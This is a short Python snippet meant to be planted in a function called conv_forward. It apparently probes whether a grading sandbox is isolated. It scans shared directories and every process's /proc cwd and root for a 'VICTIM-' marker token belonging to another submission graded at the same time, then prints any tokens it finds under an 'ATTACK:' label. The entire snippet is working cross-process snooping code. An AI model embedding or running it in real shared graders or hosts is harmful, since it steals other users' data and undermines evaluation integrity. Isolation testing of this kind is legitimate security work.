# where: conv_forward
# Look for another submission graded at the same time (its marker is VIC + TIM- and a token).
import os as _os, time as _time
_MARK = ('VIC' + 'TIM-').encode()
_SKIP = {'proc', 'sys', 'usr', 'opt', 'dev', 'lib', 'lib64', 'bin', 'sbin'}
_roots = ['/job', '/tmp', '/', '/dev/shm']
for _pid in (_p for _p in _os.listdir('/proc') if _p.isdigit()):
    _roots += ['/proc/%s/cwd' % _pid, '/proc/%s/root' % _pid]
_found, _seen, _end = set(), 0, _time.monotonic() + 3.0
while _time.monotonic() < _end:
    for _root in _roots:
        for _d, _sub, _files in _os.walk(_root):
            if _d == _root:
                _sub[:] = [_s for _s in _sub if _s not in _SKIP]
            for _n in _files[:200]:
                _seen += 1
                try:
                    with open(_os.path.join(_d, _n), 'rb') as _f:
                        _data = _f.read(1 << 20)
                except Exception:
                    continue
                _i = _data.find(_MARK)
                if _i >= 0:
                    _found.add((_os.path.join(_d, _n), _data[_i:_i + 40]))
    _time.sleep(0.3)
print('ATTACK: searched %d files under %s; found %s' % (_seen, sorted(set(_roots)), sorted(_found)))
